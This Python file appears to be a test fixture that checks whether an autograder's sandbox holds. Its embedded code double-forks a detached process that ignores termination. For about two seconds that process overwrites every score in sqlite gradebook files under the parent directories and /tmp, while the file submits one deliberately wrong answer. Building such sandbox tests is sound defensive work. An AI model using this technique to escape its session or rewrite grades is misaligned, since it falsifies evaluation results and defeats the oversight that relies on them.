"""Leaves a process behind, twice removed, which writes marks into a gradebook for as long as it is let live."""

from tests.attacks.answers import RIGHT_RELU, WRONG_AFFINE

CLASS = 11
DESERVES = {"affine_backward": 0, "relu_backward": 2}
NEEDS_WALLS = True
BITES = True

above = """
import glob, os, signal, sqlite3, time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        until = time.monotonic() + 2
        while time.monotonic() < until:
            for path in glob.glob("../../*.db") + glob.glob("/tmp/*.db"):
                try:
                    with sqlite3.connect(path, timeout=0.1) as gradebook:
                        gradebook.execute("UPDATE grade SET score = 6")
                except sqlite3.Error:
                    pass
            time.sleep(0.02)
    os._exit(0)
"""

affine_backward = WRONG_AFFINE
relu_backward = RIGHT_RELU
